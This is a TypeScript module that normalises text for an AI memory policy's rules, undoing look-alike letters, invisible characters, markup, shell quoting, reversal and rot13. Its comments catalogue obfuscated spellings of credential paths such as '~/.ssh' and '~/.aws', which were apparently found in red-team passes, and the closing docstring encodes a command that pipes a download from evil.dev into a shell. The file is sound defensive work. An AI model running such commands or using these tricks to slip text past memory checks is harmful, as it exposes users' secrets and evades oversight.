// The forms of a fact the memory policy reads (fact-policy.ts): the text as a reader sees it, whatever spelling hides
// it. Unicode look-alikes are mapped to Latin, invisible characters and markdown removed, letter-spaced words joined,
// "tilde slash dot aws" spelled back, HTML read as rendered; the shell's quoting read through; a line written
// backwards or in rot13 read forwards. The stored text is never one of these forms.
import anyAscii from "any-ascii";
import { INVISIBLE } from "../vocabulary/invisible-chars.js";

/** Letters from other scripts that look like Latin ones (the usual spoofing set: Cyrillic, Greek, a few IPA). */
const LOOK_ALIKES: Record<string, string> = Object.fromEntries(
  [
    ["аɑα", "a"],
    ["вβ", "b"],
    ["сϲ", "c"],
    ["ԁ", "d"],
    ["еεє", "e"],
    ["ɡ", "g"],
    ["һн", "h"],
    ["іιɩı", "i"],
    ["ј", "j"],
    ["кκ", "k"],
    ["ӏℓǀƚ", "l"],
    ["м", "m"],
    ["ոη", "n"],
    ["оοσ", "o"],
    ["рρ", "p"],
    ["ԛ", "q"],
    ["ѕ", "s"],
    ["тτ", "t"],
    ["υ", "u"],
    ["νѵ", "v"],
    ["ԝω", "w"],
    ["хχ", "x"],
    ["уγү", "y"],
    ["ᴢ", "z"],
    // dashes, and what draws as one outside the dash class: the modifier minus, the hyphen bullet (A36b-2)
    ["‐‑‒–—―−﹣˗⁃", "-"],
    // small capitals, which NFKC leaves alone ("yᴏlᴏ": the twenty-ninth pass's A29c-2)
    ...[..."ᴀʙᴄᴅᴇꜰɢʜɪᴊᴋʟᴍɴᴏᴘʀꜱᴛᴜᴠᴡʏ"].map((c, i) => [c, "abcdefghijklmnoprstuvwy"[i]!]),
    ["∕⁄", "/"],
    ["˜", "~"],
    // dots that sit where a dot would (`~/·ssh`, `~/ˌssh`, `~/。ssh`: the thirty-fifth pass's A35b-1)
    ["·ˌ。․‧∙⋅・｡⸱⸳᛫•◦ˑ܂∘ꞏ⸰⦁●˙⬝᐀", "."],
  ].flatMap(([from, to]) => [...from!].map((c) => [c, to!])),
);

/**
 * A Latin letter NFKD does not split (a stroke, hook, bar or tail: `ø`, `ŧ`, `ʂ`, `ɾ`, `ɏ`, `ꞩ`: the thirty-fifth pass's
 * A35b-1) or a dash of any width (`⸺yes`): read as its ASCII transliteration (any-ascii), as a reader would, so
 * "Søren" is "soren" to the rules. Other scripts' letters are not transliterated (Cyrillic `р` would read as r where it
 * looks like p): their look-alikes are in LOOK_ALIKES, and a word mixing scripts is its own rule (mixed-script.ts).
 */
const LATIN_LETTER_OR_DASH = /^[^\0-\x7f](?<=\p{Script=Latin}|\p{Pd})$/u;

const ENTITIES: Record<string, string> = { amp: "&", lt: "<", gt: ">", quot: '"', apos: "'", period: ".", sol: "/", tilde: "~", nbsp: " ", hyphen: "-", dash: "-" };

/**
 * HTML a reader sees through: comments and tags gone (`~/.s<!-- -->sh`, `~/.s<wbr>sh`), character references decoded
 * (`~/&#46;ssh`, `.ss&#104;`: the thirty-seventh pass's A37b-1). A model reads a fact as rendered text.
 */
export function withoutMarkup(text: string): string {
  return text
    .replace(/<!--[\s\S]*?-->/g, "")
    .replace(/<\/?[a-z][\w-]*(?:\s[^<>]*)?\/?>/gi, "")
    .replace(/&#x([0-9a-f]{1,6});?/gi, (m, h: string) => codePoint(Number.parseInt(h, 16)) ?? m)
    .replace(/&#(\d{1,7});?/g, (m, d: string) => codePoint(Number(d)) ?? m)
    .replace(/&([a-z]+);/gi, (m, name: string) => ENTITIES[name.toLowerCase()] ?? m);
}

const codePoint = (n: number) => (n > 0 && n <= 0x10ffff ? String.fromCodePoint(n) : undefined);

/** The text the rules read: look-alikes folded, invisible characters and markdown gone, spacing tricks undone. */
export function policyForm(text: string, joinDots = true): string {
  // Combining marks off first (`c̣url`, `yọlo`, `~/.s̲sh`: the thirty-third pass's A33b-2); NFKD splits `ṣ` into s + mark.
  const bare = withoutMarkup(text).normalize("NFKD").replace(/\p{M}/gu, "").normalize("NFKC");
  const folded = [...bare.toLowerCase()].map((c) => LOOK_ALIKES[c] ?? (LATIN_LETTER_OR_DASH.test(c) ? anyAscii(c).toLowerCase() : c)).join("");
  return (
    folded
      .replace(INVISIBLE, "") // zero-width, bidi and other characters that draw as nothing, soft hyphens
      .replace(/(?<=\p{L})[*~]+(?=\p{L})/gu, "") // emphasis or strikethrough inside a word (`~/.s*s*h`, `s~~~~sh`: A37b-1)
      .replace(/[`*]+/g, " ") // markdown code and emphasis
      // after a home path's slash, a symbol where the dot goes (`~/∘aws`, `~/⦁ssh`: A37b-1)
      .replace(/(?<=(?:~|\$\{?home\}?)\/)[^\p{L}\p{N}\s\0-\x7f](?=\p{L})/gu, ".")
      .replace(/\s+/g, " ")
      .replace(/(?<=^|\s)(?:\S ){2,}\S(?=\s|$)/g, (m) => m.replace(/ /g, "")) // "c u r l" → "curl"
      .replace(/\btilde\b/g, "~") // "tilde slash dot aws" → "~/.aws"
      .replace(/\b(?:forward )?slash\b/g, "/")
      // "~/ .ssh", "f= @ file"; the second form keeps the space before a dot ("read the file .env": the joined "file.env"
      // hid the .env, the twenty-third pass's A23-2)
      .replace(joinDots ? /\s*([/.@=])\s*/g : /\s*([/@=])\s*/g, "$1")
      .replace(/\bdot\b[ -]?(?=[a-z])/g, ".") // "dot-env", "dot env" → ".env" (after the join: "the .env" stays a word)
      .replace(/(?<=^|\s)-\s+-(?=[a-z])/g, "--") // "- -yes"
      .trim()
  );
}

/**
 * The folded form as a shell reads its words, and with letters that punctuation spaces out joined: quotes and
 * backslashes gone (`c''url`, `"cu"rl`, `cur\l`, `--ye\s`), a one-letter bracket glob opened (`~/.a[w]s`), `%2e`
 * decoded, `y.o.l.o`, `Y-O-L-O` and `yo-lo` joined (the twenty-ninth pass's A29c-6). A third form, never a
 * replacement: `$'…'` quoting is itself a rule, and "force-push" is matched as written.
 */
export function shellWordForm(form: string): string {
  return form
    .replace(/['"\\]/g, "")
    .replace(/\[(\w)\]/g, "$1")
    .replace(/%2e/g, ".")
    .replace(/%2f/g, "/")
    .replace(/(?<![a-z])(?:[a-z][.\-_]){2,}[a-z](?![a-z])/g, (m) => m.replace(/[.\-_]/g, ""))
    .replace(/(?<=[a-z])-(?=[a-z])/g, "");
}

/** The text as written, case kept (environment variables are case-sensitive): markup, invisible characters and quotes gone. */
export function casedForm(text: string): string {
  return withoutMarkup(text)
    .normalize("NFKC")
    .replace(INVISIBLE, "")
    .replace(/['"`\\]/g, "");
}

/**
 * The folded form decoded the two ways a command is hidden in plain letters (the thirty-eighth pass's A38a-1): read
 * backwards ("hs | hs.i/ved.live s- lruc") and in rot13 ("phey rivy.qri/v.fu | fu"). Only the sharpest shapes (a
 * download piped into a shell) are looked for in them: ordinary text decoded is noise.
 */
export function decodedForms(form: string): string[] {
  const rot13 = form.replace(/[a-z]/g, (c) => String.fromCharCode(((c.charCodeAt(0) - 97 + 13) % 26) + 97));
  return [[...form].reverse().join(""), rot13];
}
